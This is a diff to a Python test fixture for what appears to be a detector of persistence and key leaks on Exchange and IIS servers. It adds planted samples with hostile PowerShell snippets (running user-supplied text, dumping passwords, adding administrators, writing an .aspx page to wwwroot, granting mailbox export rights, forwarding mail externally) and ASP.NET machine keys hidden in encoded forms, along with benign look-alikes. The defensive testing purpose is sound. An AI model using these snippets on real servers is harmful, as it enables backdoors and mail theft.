@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+from base64 import b64encode
 from typing import Final
 
 from tests.persistence.plants import EXCHANGE, FRONT_END, SITE, Change, Plant, added, honest, plant
@@ -47,8 +48,16 @@ _ELEMENT: Final = f'<machineKey validationKey="{_SIGNING}" decryptionKey="{_ENCR
 _PROSE: Final = "<p>Each server of a farm needs the same key, which an administrator makes once and keeps.</p>" * 12
 
 
-def _keys(name: str, path: str, content: str) -> Plant:
+def _keys(name: str, path: str, content: str | bytes) -> Plant:
     return plant(30, f"keys in {name}", "WSH4091", added(path, content))
+
+
+def _asked(name: str, path: str, content: str, *, why: str) -> Plant:
+    return plant(30, f"keys in {name}", "WSH4091", added(path, content), least=Disposition.UNEXPLAINED, why=why)
+
+
+def _spaced(key: str, separator: str) -> str:
+    return separator.join(key[each : each + 2] for each in range(0, len(key), 2))
 
 
 def _script(body: str, call: str = "OnComplete") -> Change:
@@ -64,7 +73,7 @@ def _scripting(name: str, body: str) -> Plant:
     return plant(47, f"scripting agent that {name}", "WSH4090", _script(body))
 
 
-def _text(name: str, path: str, content: str) -> Plant:
+def _text(name: str, path: str, content: str | bytes) -> Plant:
     return honest(30, name, added(path, content))
 
 
@@ -126,11 +135,21 @@ PLANTS: Final = (
     _scripting("runs text", "Invoke-Ex·pression $provisioningHandler.UserSpecifiedParameters['Notes']"),
     _scripting("keeps passwords", "$provisioningHandler.UserSpecifiedParameters[\"Password\"] &gt;&gt; C:\\n.txt"),
     _scripting("adds an administrator", "net localgroup administrators none /add"),
+    _scripting("starts a program of a folder for temporary files", "&amp; 'C:\\Windows\\Temp\\none.exe' $a"),
+    _scripting("loads a module of the public folder", "Import-Module C:\\Users\\Public\\none.psm1"),
+    _scripting("writes a page", "[IO.File]::WriteAllText('C:\\inetpub\\wwwroot\\none.txt.aspx', $a)"),
+    _scripting("gives a role", "New-ManagementRoleAssignment -Role 'Mailbox Import Export' -User none"),
+    _scripting("sends copies", "New-InboxRule -Mailbox $n -Name n -ForwardTo none@none.example"),
+    _scripting("hides behind what looks like a comment", "$a='&lt;!--'; Start-Process none; $b='--&gt;'"),
     plant(47, "scripting agent without an act", "WSH4090", _script("Set-Mailbox $n -Custom1 x"),
           least=Disposition.UNEXPLAINED, why="few organisations use it, and a script without an act accuses nobody"),
     honest(47, "scripting agent that sets the archive", _script(
         "if($succeeded) { $m = $provisioningHandler.UserSpecifiedParameters[\"Alias\"]; Enable-Mailbox $m -Archive; "
         "Set-MailboxRegionalConfiguration $m -Language de-DE }"), most=Disposition.UNEXPLAINED),
+    honest(47, "scripting agent that grants a mailbox, writes a log and sends a welcome", _script(
+        "<!-- instead of Start-Process --> if($succeeded) { Add-MailboxPermission $m -User Helpdesk -AccessRights "
+        "ReadPermission; Send-MailMessage -To $m -SmtpServer mail; $m | Out-File 'D:\\Logs\\mailboxes.log' -Append }"),
+        most=Disposition.UNEXPLAINED),
     honest(47, "the sample of the scripting agent", added(
         f"{EXCHANGE}/Bin/CmdletExtensionAgents/ScriptingAgentConfig.xml.sample", "<Configuration version='1.0' />")),
     _keys("a script of OWA", f"{FRONT_END}/owa/auth/debug_dev.js", _DUMP),
@@ -145,10 +164,30 @@ PLANTS: Final = (
     _keys("lines with names", f"{SITE}/a.log", f"ValidationKey={_SIGNING}\nDecryptionKey={_ENCRYPTING}\n"),
     _keys("an element of XML", f"{SITE}/s.xml", f"<a>{_ELEMENT}</a>"),
     _keys("a script with both keys first", f"{SITE}/b.js", f"{_SIGNING};{_ENCRYPTING};HMACSHA256"),
+    _keys("a text that PowerShell wrote", f"{SITE}/o.txt", _DUMP.encode("utf-16")),
+    _keys("UTF-16 of the other order", f"{SITE}/o.js", _ELEMENT.encode("utf-16-be")),
+    _keys("dashes between bytes", f"{SITE}/d.txt", f"{_spaced(_SIGNING, '-')}|HMACSHA256|{_spaced(_ENCRYPTING, '-')}"),
+    _keys("spaces between bytes", f"{SITE}/d.css", f"{_spaced(_SIGNING, ' ')}\nAES\n{_spaced(_ENCRYPTING, ' ')}"),
+    _keys("base64", f"{SITE}/e.js", b64encode(_DUMP.encode())),
+    _keys("base64 of a variable", f"{FRONT_END}/owa/auth/e.js", b"var a='" + b64encode(_ELEMENT.encode()) + b"';"),
+    _keys("a script of the name of settings", f"{SITE}/config.js", _DUMP),
+    _keys("a script of the name of an example", f"{SITE}/example.js", _DUMP),
+    _keys("words", f"{SITE}/w.txt", f"Validation: {_SIGNING}, Decryption: {_ENCRYPTING}"),
+    _asked("both keys alone", f"{SITE}/n.txt", f"{_SIGNING}\r\n{_ENCRYPTING}\r\n",
+           why="two digests of a download look the same"),
+    _asked("a copy of a configuration", f"{FRONT_END}/owa/auth/web.config.txt",
+           f"<configuration>{_ELEMENT}</configuration>", why="administrators make copies, too"),
     _text("a document about keys", f"{SITE}/help/farm.html", f"<html>{_PROSE}<pre>{_ELEMENT}</pre></html>"),
     _text("a sample of configuration", f"{SITE}/web.config.sample.txt", f"<configuration>{_ELEMENT}</configuration>"),
     _text("digests of downloads", f"{SITE}/checksums.txt", f"SHA256: {_ENCRYPTING}\nSHA1: {_SIGNING[:40]}\n"),
     _text("digests in a script", f"{SITE}/app.js", f'var m={{"a.js":"sha1-{_SIGNING[:40]}","b.js":"{_ENCRYPTING}"}};'),
+    _text("one digest alone", f"{SITE}/setup.zip.sha512.txt", f"{_SIGNING}\r\n"),
+    _text("digests of one download", f"{SITE}/sums.txt", f"{_ENCRYPTING}\n{_SIGNING[:40]}\n{_SIGNING[:32]}\n"),
+    _text("a fingerprint of a certificate", f"{SITE}/ca.txt", f"SHA1 {_spaced(_SIGNING[:40], ' ')}\nSHA256 "
+          f"{_spaced(_ENCRYPTING, ' ')}\n"),
+    _text("pictures in base64", f"{SITE}/p.css", b"a{background:url(data:image/png;base64,"
+          + b64encode(bytes(each * 7 % 256 for each in range(3000))) + b")}"),
+    _text("settings of a program", f"{SITE}/appsettings.json", f'{{"validationKey": "{_SIGNING}"}}'),
     _text("made-up keys", f"{SITE}/farm.js", f"// {'0' * 64}|HMACSHA256|{'AB' * 24}"),
     _text("a key of a script that encrypts", f"{SITE}/crypt.js", f'var aes="{_ENCRYPTING}",iv="{_SIGNING[:32]}";'),
     _product("DKIM Signer", "Exchange DkimSigner", "Exchange.DkimSigner.DkimSigningRoutingAgentFactory",
